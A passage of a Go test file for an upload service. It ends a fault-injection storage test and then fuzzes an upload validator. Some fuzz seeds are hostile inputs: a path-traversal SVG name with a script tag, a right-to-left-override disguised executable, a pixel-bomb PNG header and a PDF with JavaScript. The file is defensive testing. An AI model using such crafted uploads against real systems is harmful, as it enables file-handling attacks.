			t.Fatal("PutBlob ignored the fault")
		}
		d.Hook = nil
		if _, err := st.Blob(ctx, b.ID); !errs.Is(err, errs.NotFound) {
			t.Fatalf("half-written blob: %v", err)
		}
		if _, err := st.BlobVariant(ctx, b.ID, "thumb240"); !errs.Is(err, errs.NotFound) {
			t.Fatalf("orphan variant: %v", err)
		}
		if err := st.PutBlob(ctx, b); err != nil {
			t.Fatal(err)
		}
	})
}

// ---- fuzz ----

func FuzzValidate(f *testing.F) {
	f.Add("a.jpg", MustJPEG(f, 8, 8))
	f.Add("b.jpg", withEXIF(MustJPEG(f, 8, 4), 8))
	f.Add("c.png", MustPNG(f, picture(4, 4)))
	f.Add("d.gif", MustGIF(f, 4, 4))
	f.Add("e.webp", webP(3, 3, color.NRGBA{A: 255}))
	f.Add("f.pdf", pdf("/JS (x)"))
	f.Add("g.zip", MustZip(f, zipEntry{name: "a/b.txt", data: []byte("hello")}))
	f.Add("h.dxf", []byte("  0\nSECTION\n  0\nEOF\n"))
	f.Add("i.stp", []byte("ISO-10303-21;"))
	f.Add("j.dwg", []byte("AC1015\x00\x00"))
	f.Add("../k.svg", []byte("<svg><script/></svg>"))
	f.Add("\u202el.exe", []byte("MZ"))
	f.Add("bomb.png", pngHeader(50000, 50000))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		d, err := upload.Validate(name, data, All, 1<<20)
		if err != nil {
			if e := errs.As(err); e == nil || len(e.Fields) != 1 || e.Fields[0].Field != "file" {
				t.Fatalf("not a field error: %v", err)
			}
			return
		}
		if d.Kind == "" || d.ContentType == "" || !strings.HasPrefix(d.Ext, ".") {
			t.Fatalf("accepted without a type: %+v", d)
		}
		if n := utf8.RuneCountInString(d.DisplayName); n == 0 || n > upload.MaxNameLen || strings.ContainsAny(d.DisplayName, "/\\\x00") || !utf8.ValidString(d.DisplayName) {
			t.Fatalf("display name %q", d.DisplayName)
		}
		if d.Kind.IsImage() && (d.Width <= 0 || d.Height <= 0 || int64(d.Width)*int64(d.Height) > upload.MaxPixels) {
			t.Fatalf("image dims %d×%d", d.Width, d.Height)
		}
	})
}
